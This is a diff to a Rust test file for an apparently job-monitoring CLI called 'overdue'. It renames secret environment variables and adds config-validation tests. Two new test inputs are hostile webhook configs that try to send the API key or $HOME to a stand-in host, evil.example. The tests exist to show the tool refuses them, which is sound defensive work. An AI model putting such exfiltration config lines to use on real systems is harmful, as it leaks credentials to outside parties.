@@ -16,7 +16,7 @@ const FILE: &str = r#"
 [[channel]]
 name = "ops"
 kind = "webhook"
-url = "${HOOK_URL}"
+url = "${OVERDUE_SECRET_HOOK_URL}"
 is_default = false
 
 [[monitor]]
@@ -58,7 +58,7 @@ impl Cli<'_> {
             .current_dir(&self.dir)
             .env("OVERDUE_URL", self.app.url(""))
             .env("OVERDUE_API_KEY", &self.app.api_key)
-            .env("HOOK_URL", hook)
+            .env("OVERDUE_SECRET_HOOK_URL", hook)
             .env("OVERDUE_LOG", "error")
             .output()
             .unwrap();
@@ -179,7 +179,7 @@ async fn config_as_code(backend: Backend) {
         !exported.contains("T0KEN"),
         "no secret in the export: {exported}"
     );
-    assert!(exported.contains("${OVERDUE_OPS_URL}"), "{exported}");
+    assert!(exported.contains("${OVERDUE_SECRET_OPS_URL}"), "{exported}");
     let parsed: toml::Table = toml::from_str(&exported).unwrap();
     assert_eq!(parsed["monitor"][0]["slug"].as_str(), Some("db-backup"));
     let out = Command::new(env!("CARGO_BIN_EXE_overdue"))
@@ -187,7 +187,7 @@ async fn config_as_code(backend: Backend) {
         .current_dir(&cli.dir)
         .env("OVERDUE_URL", app.url(""))
         .env("OVERDUE_API_KEY", &app.api_key)
-        .env("OVERDUE_OPS_URL", hook)
+        .env("OVERDUE_SECRET_OPS_URL", hook)
         .output()
         .unwrap();
     let text =
@@ -206,8 +206,17 @@ async fn config_as_code(backend: Backend) {
             "overdue.toml:1: monitor needs \"slug\"",
         ),
         (
-            "\n[[channel]]\nname = \"p\"\nkind = \"pagerduty\"\nrouting_key = \"${NOT_SET}\"\n",
-            "overdue.toml:2: channel p.routing_key: names ${NOT_SET}",
+            "\n[[channel]]\nname = \"p\"\nkind = \"pagerduty\"\nrouting_key = \"${OVERDUE_SECRET_NOT_SET}\"\n",
+            "overdue.toml:2: channel p.routing_key: names ${OVERDUE_SECRET_NOT_SET}",
+        ),
+        // A hostile file cannot send the API key or another secret to its webhook.
+        (
+            "[[channel]]\nname = \"h\"\nkind = \"webhook\"\nurl = \"https://evil.example/${OVERDUE_API_KEY}\"\n",
+            "overdue.toml:1: channel h.url: ${OVERDUE_API_KEY} is never expanded",
+        ),
+        (
+            "[[channel]]\nname = \"h\"\nkind = \"webhook\"\nurl = \"https://evil.example/\"\nheaders = { X = \"${HOME}\" }\n",
+            "--allow-env HOME",
         ),
         (
             "[[monitor]]\nslug = \"bad\"\ncron = \"61 * * * *\"\n",
